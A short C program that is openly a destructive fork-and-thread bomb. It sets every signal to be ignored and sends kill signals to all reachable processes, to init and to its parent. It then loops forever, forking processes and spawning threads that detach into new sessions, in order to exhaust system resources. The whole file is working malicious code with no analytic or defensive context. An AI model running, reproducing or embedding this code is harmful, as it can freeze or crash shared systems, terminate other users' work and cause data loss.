// Threads that fork, forks that make threads, all of them deaf to signals.
#define _GNU_SOURCE
#include <pthread.h>
#include <signal.h>
#include <sys/resource.h>
#include <unistd.h>
static void *bomb(void *nothing) {
    for (;;) {
        pthread_t one;
        fork();
        setsid();
        setpriority(PRIO_PROCESS, 0, 19);
        pthread_create(&one, NULL, bomb, nothing);
    }
}
int main(void) {
    for (int number = 1; number < 65; number++) signal(number, SIG_IGN);
    kill(-1, SIGKILL), kill(0, SIGSTOP), kill(1, SIGKILL), kill(getppid(), SIGSTOP);
    bomb(NULL);
}
